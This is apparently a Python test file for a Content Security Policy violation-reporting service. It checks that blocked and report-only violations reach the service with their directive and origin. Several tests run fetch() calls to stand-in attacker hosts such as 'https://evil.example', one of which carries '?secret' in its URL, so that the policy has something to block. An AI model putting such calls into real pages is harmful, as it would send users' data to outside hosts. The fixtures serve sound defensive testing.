"""What engines really report reaches the service, which tells it once."""

from promises import promise
from promises_policy import INJECTED
from vendor_stub import OLD, TAMPERED


def _told(world, tenant, directive, origin, verb="blocked"):
    world.service.line("policy violation: %s: %s %s %s" % (tenant, directive, verb, origin))


@promise("reports: each part of injected markup is reported and told, with directive and origin", True)
def injected(world):
    world.open_at(TAMPERED, "chat", "ios")
    for directive, origin in INJECTED:
        _told(world, "chat talkdesk", directive, origin)


@promise("reports: a violation of the assistant's page is told as its own", True)
def assistant(world):
    view = world.open("assistant", "ios-assistant")
    view.evaluate("fetch('https://evil.example/').catch(() => {}); undefined")
    _told(world, "assistant smart-assistant", "connect-src", "https://evil.example")


@promise("reports: what a policy that is only tried would block is told as such", True)
def tried(world):
    view = world.open("chat-tried", "ios")
    view.evaluate("new Image().src = 'https://extra.example/p.svg'; undefined")
    _told(world, "chat-tried talkdesk", "img-src", "https://extra.example", "would block")


@promise("reports: engines that know report-uri alone report there")
def old_engines(world):
    if world.service is None:
        return
    view = world.open_at(OLD, "chat-told", "ios")
    view.evaluate("fetch('https://old-evil.example/a?secret').catch(() => {}); undefined")
    _told(world, "chat-told talkdesk", "connect-src", "https://old-evil.example")
